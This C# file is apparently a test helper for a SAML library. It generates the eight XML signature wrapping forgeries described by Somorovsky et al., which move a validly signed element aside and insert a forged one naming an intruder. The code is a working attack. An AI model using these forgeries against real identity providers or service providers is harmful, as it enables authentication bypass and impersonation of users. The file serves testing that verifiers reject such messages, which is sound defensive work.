using System.Xml;

namespace PseIdentity.Testing.Saml;

/// <summary>
/// The eight ways to wrap a signed SAML message so that a signature verifies over one element while another is read (Somorovsky et al., "On Breaking SAML:
/// Be Whoever You Want to Be", 2012). Each takes what the provider signed and names <see cref="Intruder"/> in the part that a careless reader finds.
/// </summary>
public static class SamlWrapping
{
    public const string Intruder = "mallory-0666";

    /// <param name="shape">1 and 2 take a signed response, 3 to 8 one whose assertion is signed.</param>
    /// <param name="sameId">The forged part keeps the ID of the one that it stands for.</param>
    public static string Wrap(int shape, string signed, bool sameId)
    {
        var document = new XmlDocument { PreserveWhitespace = true, XmlResolver = null };
        document.LoadXml(signed);
        var root = document.DocumentElement!;
        if (shape <= 2)
            WrapResponse(shape, root, sameId);
        else
            WrapAssertion(shape, document, root, sameId);
        return document.OuterXml;
    }

    private static void WrapResponse(int shape, XmlElement root, bool sameId)
    {
        var original = (XmlElement)root.CloneNode(deep: true);
        original.RemoveChild(Signature(original)!);
        var signature = Signature(root)!;
        Forge(root, sameId);
        if (shape == 1)
            signature.AppendChild(original); // enveloping
        else
            root.InsertBefore(original, signature); // detached
    }

    private static void WrapAssertion(int shape, XmlDocument document, XmlElement root, bool sameId)
    {
        var original = root.ChildNodes.OfType<XmlElement>().Single(child => child.LocalName == "Assertion");
        var forged = (XmlElement)original.CloneNode(deep: true);
        Forge(forged, sameId);
        var bare = (XmlElement)original.CloneNode(deep: true);
        bare.RemoveChild(Signature(bare)!);
        switch (shape)
        {
            case 3: // the forged one first
                forged.RemoveChild(Signature(forged)!);
                root.InsertBefore(forged, original);
                break;
            case 4: // the forged one around it
                forged.RemoveChild(Signature(forged)!);
                root.ReplaceChild(forged, original);
                forged.AppendChild(original);
                break;
            case 5: // the signature in the forged one, the original last
                root.ReplaceChild(forged, original);
                root.AppendChild(bare);
                break;
            case 6: // the original within the signature of the forged one
                root.ReplaceChild(forged, original);
                Signature(forged)!.AppendChild(bare);
                break;
            case 7: // the forged one where anything may stand
                forged.RemoveChild(Signature(forged)!);
                var extensions = document.CreateElement("samlp", "Extensions", SamlDraft.Protocol);
                extensions.AppendChild(forged);
                root.InsertBefore(extensions, original);
                break;
            default: // the original within an Object of the signature in the forged one
                root.ReplaceChild(forged, original);
                var holder = document.CreateElement("Object", SamlSigning.Namespace);
                holder.AppendChild(bare);
                Signature(forged)!.AppendChild(holder);
                break;
        }
    }

    private static void Forge(XmlElement element, bool sameId)
    {
        foreach (XmlElement name in element.GetElementsByTagName("NameID", SamlDraft.Assertion))
            name.InnerText = Intruder;
        if (!sameId)
            element.SetAttribute("ID", "_forged");
        if (!sameId && element.LocalName == "Response")
            ((XmlElement)element.GetElementsByTagName("Assertion", SamlDraft.Assertion)[0]!).SetAttribute("ID", "_forged-assertion");
    }

    private static XmlElement? Signature(XmlElement element) => element.ChildNodes.OfType<XmlElement>().FirstOrDefault(child => child.LocalName == "Signature");
}
